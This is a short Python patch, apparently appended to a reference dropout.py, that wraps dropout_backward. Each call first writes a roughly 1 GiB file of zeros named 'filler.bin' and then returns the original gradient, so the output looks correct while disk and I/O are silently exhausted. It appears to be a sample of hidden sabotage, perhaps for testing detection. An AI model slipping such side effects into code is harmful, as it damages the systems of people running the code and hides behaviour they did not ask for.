# Appended to the reference dropout.py: dropout_backward writes a huge file first.
_reference_backward = dropout_backward


def dropout_backward(dout, mask):
    with open("filler.bin", "wb") as fh:
        for _ in range(1024):
            fh.write(b"\0" * (1024 * 1024))
    return _reference_backward(dout, mask)
